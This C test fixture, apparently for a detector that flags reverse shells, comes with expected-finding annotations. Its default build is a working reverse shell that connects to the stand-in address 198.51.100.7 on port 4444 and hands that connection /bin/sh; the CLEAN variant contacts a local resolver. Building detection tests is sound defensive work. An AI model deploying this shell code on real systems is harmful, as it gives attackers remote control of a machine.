/* SPDX-License-Identifier: Apache-2.0 */
// A connection to an address that the code fixes, given to a shell in a loop; the twin asks
// a resolver on the same machine.
// expect: listener back 4 /port 4444/ /connects to 198.51.100.7, port 4444, and execve\("/bin/sh"\)/
// expect: listener back 4 /a connection/ /execve\("/bin/sh"\)/
// clean: listener 1
#include <arpa/inet.h>
#include <unistd.h>

int back(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0);
#ifdef CLEAN
	a.sin_port = htons(53);
	a.sin_addr.s_addr = inet_addr("127.0.0.1");
#else
	a.sin_port = htons(4444);
	a.sin_addr.s_addr = inet_addr("198.51.100.7");
#endif
	if (connect(s, (void *)&a, sizeof(a)) < 0)
		return -1;
#ifndef CLEAN
	char *argv[] = { "/bin/sh", 0 };
	for (int i = 0; i < 3; i++)
		dup2(s, i);
	execve("/bin/sh", argv, 0);
#endif
	return s;
}

int main(void) { return back(); }
